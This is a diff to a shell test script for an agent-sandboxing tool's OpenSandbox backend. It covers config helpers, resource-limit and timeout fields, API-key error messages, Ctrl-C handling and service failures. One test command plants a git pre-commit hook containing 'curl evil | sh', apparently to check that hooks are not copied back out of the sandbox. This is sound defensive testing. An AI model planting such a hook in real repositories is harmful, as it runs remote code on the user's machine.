@@ -6,7 +6,10 @@
 # are not uploaded; interactive commands and paths outside the workspace are refused (exit 2);
 # Ctrl-C interrupts the command and deletes the sandbox; a service that never gets ready or drops
 # the stream gives a clear error and a deleted sandbox; the API key never shows in argv, the
-# store, the output or --dry-run; the session is in `sessions` and `show`.
+# store, the output or --dry-run; the session is in `sessions` and `show`. The configuration is
+# the README's (no cpu, memory or timeout) and the stand-in checks every field the spec requires
+# (issue 24 item 15: resourceLimits and timeout were left out); timeout = 0 asks for the spec's
+# longest and says so.
 . "$(dirname "$0")/lib.sh"
 aj_setup
 . "$(dirname "$0")/osblib.sh"
@@ -16,33 +19,9 @@ KEY=sk-osb-$$-$RANDOM-secret
 STANDIN_API_KEY=$KEY osb_start main --ping 0.5 --linger 0.2 --pending 0.3
 MAIN_URL=$OSB_URL MAIN_STATE=$OSB_STATE
 
-config_for() { # WHO URL
-	aj_use "$1"
-	mkdir -p "$HOMEDIR/.config/agentjail"
-	cat >"$HOMEDIR/.config/agentjail/config.toml" <<EOT
-backend = "opensandbox"
-[opensandbox]
-url = "$2"
-api_key_env = "OSB_TEST_KEY"
-timeout = 600
-EOT
-	[ "$1" = user ] && aj_is_root && chown -R "$AJ_USER:" "$HOMEDIR/.config"
-	return 0
-}
-
-fresh_repo() { # WHO
-	aj_fresh_ws "$1"
-	(cd "$WS" && git -c init.defaultBranch=main init -q && echo hello >a.txt &&
-		echo 'build/' >.gitignore && mkdir build && echo generated >build/out &&
-		git -c safe.directory='*' add a.txt .gitignore &&
-		git -c safe.directory='*' -c user.name=t -c user.email=t@t.invalid commit -qm one)
-	[ "$1" = user ] && aj_is_root && chown -R "$AJ_USER:" "$WS"
-	return 0
-}
-
 for who in "${AJ_WHOS[@]}"; do
-	config_for "$who" "$MAIN_URL"
-	fresh_repo "$who"
+	osb_config "$who" "$MAIN_URL"
+	osb_repo "$who"
 	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run -- sh -c \
 		'echo out1; echo err1 >&2; echo; ls -a; cat a.txt; echo changed >a.txt; echo new >new.txt;
 		 mkdir -p .git/hooks; echo "curl evil | sh" >.git/hooks/pre-commit; exit 3'
@@ -76,7 +55,7 @@ for who in "${AJ_WHOS[@]}"; do
 
 	# a local edit during the run: the stand-in's commands run on this host, so the command
 	# itself can change the local copy while it changes the sandbox's
-	fresh_repo "$who"
+	osb_repo "$who"
 	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run -- sh -c "echo local-edit >'$WS/a.txt'; echo remote >a.txt"
 	is "$RC" 0 "$who: conflict run exits 0"
 	is "$(cat "$WS/a.txt")" local-edit "$who: a file changed here during the run keeps its local content"
@@ -94,6 +73,9 @@ for who in "${AJ_WHOS[@]}"; do
 
 	aj_run "$who" -e OSB_TEST_KEY="$KEY" -- run --net allow --allow-domain pypi.org --dry-run -- true
 	is "$RC" 0 "$who: --dry-run"
+	# the README's configuration (no cpu, memory, timeout): the spec's required fields all sent
+	like "$OUT" '"timeout":3600,"resourceLimits":\{"cpu":"1","memory":"2Gi"\}' \
+		"$who: without cpu, memory or timeout: resourceLimits as the SDKs send them, timeout 3600"
 	like "$OUT" '"networkPolicy":\{"defaultAction":"deny","egress":\[\{"action":"allow","target":"pypi.org"\}\]\}' \
 		"$who: --net allow is a deny policy with one allow rule per domain"
 	unlike "$OUT$ERR" "$KEY" "$who: --dry-run does not show the key"
@@ -114,13 +96,41 @@ for who in "${AJ_WHOS[@]}"; do
 	is "$RC" 125 "$who: a wrong key fails the run (125)"
 	like "$ERR" '401 INVALID_API_KEY' "$who: with the service's {code, message}"
 	unlike "$ERR" 'wrong-key' "$who: without echoing the key"
+	# issue 26 item 8: a failure names the backend, what chose it and the unset variable
+	aj_run "$who" -- run -- true
+	is "$RC" 125 "$who: no key at all fails the run (125)"
+	like "$ERR" '401 MISSING_API_KEY' "$who: … with the service's words"
+	cfgfile=$HOMEDIR/.config/agentjail/config.toml
+	like "$ERR" "that was the opensandbox backend at $MAIN_URL, chosen by backend = \"opensandbox\" at $cfgfile:1; \`--backend local\` runs a local jail instead" \
+		"$who: … naming the backend and the file:line that chose it"
+	like "$ERR" '\$OSB_TEST_KEY is not set' "$who: … and the variable that is not set"
+	aj_run "$who" -e OSB_TEST_KEY=wrong-key -- run -- true
+	unlike "$ERR" 'is not set' "$who: with a key set, no word about an unset one"
+	rm -f "$cfgfile"
+	printf '[opensandbox]\nurl = "%s"\napi_key_env = "OSB_TEST_KEY"\n' "$MAIN_URL" >"$cfgfile"
+	aj_chown "$cfgfile"
+	aj_run "$who" -- run --backend opensandbox -- true
+	like "$ERR" "that was the opensandbox backend at $MAIN_URL, chosen by --backend opensandbox;" \
+		"$who: chosen by the flag: says so"
 done
+
+# ---- timeout = 0 ("none"): the spec requires one; the longest it allows, said ----------------
+osb_config root "$MAIN_URL" 'timeout = 0' 'cpu = "250m"'
+osb_repo root
+aj_run root -e OSB_TEST_KEY="$KEY" -- run --dry-run -- true
+like "$OUT" '"timeout":86400,"resourceLimits":\{"cpu":"250m","memory":"2Gi"\}' \
+	"timeout = 0: the spec's longest timeout (86400) is sent; a configured cpu with the default memory"
+like "$OUT" 'timeout = 0.*86400' "timeout = 0: --dry-run says so"
+aj_run root -e OSB_TEST_KEY="$KEY" -- run -- sh -c 'echo ok'
+is "$RC:$OUT" "0:ok" "timeout = 0: a service that requires a timeout runs it"
+like "$ERR" 'timeout = 0.*86400' "timeout = 0: the run says what was asked instead"
 
 # ---- Ctrl-C: the command is interrupted and the sandbox deleted (root: signals to our child) ----
 aj_use root
-config_for root "$MAIN_URL"
-fresh_repo root
-aj_cmd root -e OSB_TEST_KEY="$KEY" -- run -- sh -c 'echo started; sleep 60'
+osb_config root "$MAIN_URL"
+osb_repo root
+NAP=60.$$ # a duration no other process on this machine sleeps
+aj_cmd root -e OSB_TEST_KEY="$KEY" -- run -- sh -c "echo started; sleep $NAP"
 "${AJ_CMD[@]}" </dev/null >"$AJ_TMP/int.out" 2>"$AJ_TMP/int.err" &
 pid=$!
 for i in $(seq 1 100); do grep -q started "$AJ_TMP/int.out" && break; sleep 0.1; done
@@ -131,26 +141,26 @@ wait "$pid"
 is "$?" 130 "Ctrl-C: exit 130"
 like "$(cat "$AJ_TMP/int.err")" 'interrupted' "Ctrl-C: says so"
 is "$(osb_live)" "" "Ctrl-C: the stand-in has no sandbox left"
-for i in $(seq 1 30); do pgrep -f '^sleep 60$' >/dev/null || break; sleep 0.1; done
-unlike "$(pgrep -af '^sleep 60$')" 'sleep 60' "Ctrl-C: the command in the sandbox was interrupted"
+for i in $(seq 1 30); do pgrep -f "^sleep $NAP\$" >/dev/null || break; sleep 0.1; done
+is "$(pgrep -af "^sleep $NAP\$")" "" "Ctrl-C: the command in the sandbox was interrupted"
 
 # ---- a slow or dropped service -------------------------------------------------------------------
 osb_start slow --never-ready
-config_for root "$OSB_URL"
+osb_config root "$OSB_URL"
 aj_run root -e OSB_TEST_KEY="$KEY" -e AGENTJAIL_OSB_READY_SECONDS=2 -- run -- true
 is "$RC" 125 "a sandbox that never gets ready: exit 125"
 like "$ERR" 'still Pending after 2 s' "and a clear error"
 is "$(osb_live)" "" "and the sandbox deleted"
 
 osb_start drop --drop-stream-after 1
-config_for root "$OSB_URL"
+osb_config root "$OSB_URL"
 aj_run root -e OSB_TEST_KEY="$KEY" -- run -- sh -c 'echo one; echo two; sleep 1'
 is "$RC" 125 "a dropped command stream: exit 125"
 like "$ERR" 'closed the command stream before the command ended' "and a clear error"
 is "$(osb_live)" "" "and the sandbox deleted"
 
 osb_start stall --stall-stream-after 1
-config_for root "$OSB_URL"
+osb_config root "$OSB_URL"
 aj_run root -e OSB_TEST_KEY="$KEY" -e AGENTJAIL_OSB_SILENCE_SECONDS=2 -- run -- sh -c 'echo one; echo two; sleep 1'
 is "$RC" 125 "a stalled command stream (not even pings): exit 125"
 like "$ERR" 'sent nothing \(not even a ping\) for 2 s' "and a clear error"
@@ -162,7 +172,7 @@ like "$ERR" 'backend = opensandbox applies to `agentjail run`; claude runs in a 
 	"an agent command with backend = opensandbox says it runs locally"
 
 # ---- doctor checks the configured service ------------------------------------------------------
-config_for root "$MAIN_URL"
+osb_config root "$MAIN_URL"
 aj_run root -e OSB_TEST_KEY="$KEY" -- doctor
 like "$OUT" "ok +opensandbox +the service at $MAIN_URL answers and accepts the key" "doctor: the service answers and takes the key"
 aj_run root -e OSB_TEST_KEY=wrong-key -- doctor
